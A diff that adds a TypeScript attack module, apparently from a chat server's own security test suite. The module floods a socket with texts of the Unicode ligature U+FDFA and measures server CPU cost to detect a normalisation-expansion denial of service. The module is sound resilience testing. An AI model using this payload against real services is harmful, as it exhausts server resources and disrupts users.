@@ -1,0 +1,48 @@
+import { readFileSync } from 'node:fs'
+import { setTimeout as delay } from 'node:timers/promises'
+import { chatNamespace } from '@pipit/contract/chat/events'
+import type { Attack } from '../runner/attack.ts'
+import { aSignedInDevice } from '../target/a-device.ts'
+import { openSocket } from '../target/open-socket.ts'
+import { withTarget } from '../target/with-target.ts'
+
+/** Few enough that none is dropped, status reports included. */
+const texts = 12
+const maxTextLength = 2000
+
+export const unicodeExpansion: Attack = {
+  name: 'unicode-expansion',
+  aim: 'keep the server busy with texts of a sign that stands for eighteen letters',
+  attempt: (options) =>
+    withTarget(options, async (target) => {
+      const { token } = await aSignedInDevice(target)
+      const socket = await openSocket(target.url, chatNamespace, { token })
+      let sequence = 1
+      await socket.emitWithAck('start', { sequence })
+      const costOf = async (text: (count: number) => string) => {
+        const before = cpuMilliseconds(target.pid)
+        for (let count = 0; count < texts; count += 1) {
+          socket.emit('text', (sequence += 1), text(count).slice(0, maxTextLength))
+          await socket.emitWithAck('status', { battery: count, firmware: '1' })
+        }
+        await delay(1000)
+        return (cpuMilliseconds(target.pid) - before) / texts
+      }
+      const ordinary = (count: number) => `${count} we saw a frog in the garden today `.repeat(100)
+      // The first texts load and compile code.
+      await costOf(ordinary)
+      const usual = await costOf(ordinary)
+      const expanded = await costOf((count) => `${count} ${'\uFDFA'.repeat(maxTextLength)}`)
+      socket.disconnect()
+      return {
+        succeeded: expanded > 2 * usual,
+        evidence: `a text costs ${expanded.toFixed(0)} ms of CPU, an ordinary one of the same length ${usual.toFixed(0)} ms`,
+      }
+    }),
+}
+
+function cpuMilliseconds(pid: number) {
+  const fields = readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1]?.split(' ') ?? []
+  // User and system time, in hundredths of a second.
+  return (Number(fields[11]) + Number(fields[12])) * 10
+}
